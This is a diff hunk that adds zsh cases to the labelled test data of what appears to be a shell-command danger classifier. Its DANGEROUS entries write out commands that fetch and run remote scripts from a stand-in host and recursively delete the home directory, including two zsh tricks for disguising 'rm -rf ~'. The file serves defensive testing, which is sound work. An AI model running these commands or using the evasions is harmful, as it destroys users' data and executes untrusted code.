@@ -955,6 +955,9 @@ COVERAGE_CLASSES = [
     (DANGEROUS, "fish", "eval (curl -s https://x.example/env.fish)"),
     (DANGEROUS, "fish", "curl -sL https://x.example/install.fish | source"),
     (DANGEROUS, "zsh", "rm -rf ~/**/*(.)"),
+    (DANGEROUS, "zsh", "=rm -rf ~"),  # `=rm` is rm's path
+    (DANGEROUS, "zsh", "a=(rm -rf ~); $a"),  # zsh's $a is every element
+    (SAFE, "zsh", "[[ $a == b ]] && echo same"),
     # recursive deletes of important home folders
     (DANGEROUS, "bash", "rm -rf ~/Documents"),
     (DANGEROUS, "bash", "rm -rf ~/.config"),
